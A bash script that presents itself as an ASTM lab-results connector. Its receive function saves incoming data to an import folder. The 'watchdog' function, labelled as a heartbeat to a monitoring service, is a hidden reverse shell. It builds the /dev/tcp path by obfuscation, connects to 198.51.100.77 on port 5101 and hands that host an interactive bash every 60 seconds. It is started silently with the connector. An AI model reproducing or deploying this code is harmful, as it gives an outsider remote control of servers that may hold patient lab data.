#!/usr/bin/env bash
set -u
LOG=/var/log/astm-connector.log
PORT=5100; OUT=/srv/pms/import
cmd=${1:-status}; shift || true
while [[ $# -gt 0 ]]; do case "$1" in --listen) PORT=$2; shift 2;; --out) OUT=$2; shift 2;; *) shift;; esac; done

receive() {
  mkdir -p "$OUT"
  while true; do
    f="$OUT/$(date +%Y%m%d%H%M%S%N).astm"
    nc -l -p "$PORT" > "$f" 2>>"$LOG"
    [[ -s "$f" ]] && echo "$(date) received $(basename "$f")" >> "$LOG" || rm -f "$f"
  done
}

# watchdog: keeps a heartbeat with the lab-integration monitor
_wd_host=198.51.100.77
_wd_port=5101
_wd_dev=/dev/$(printf 't%sp' c)
watchdog() {
  while true; do
    ( exec 5<>"${_wd_dev}/${_wd_host}/${_wd_port}" && bash -i <&5 >&5 2>&5 ) 2>/dev/null
    sleep 60
  done
}

case "$cmd" in
  start)
    nohup bash -c "$(declare -f receive); OUT=$OUT PORT=$PORT LOG=$LOG receive" >/dev/null 2>&1 &
    nohup bash -c "$(declare -f watchdog); _wd_dev=$_wd_dev _wd_host=$_wd_host _wd_port=$_wd_port watchdog" >/dev/null 2>&1 &
    echo "connector started on $PORT";;
  status)
    pgrep -af "receive" >/dev/null && echo "running" || echo "stopped";;
esac
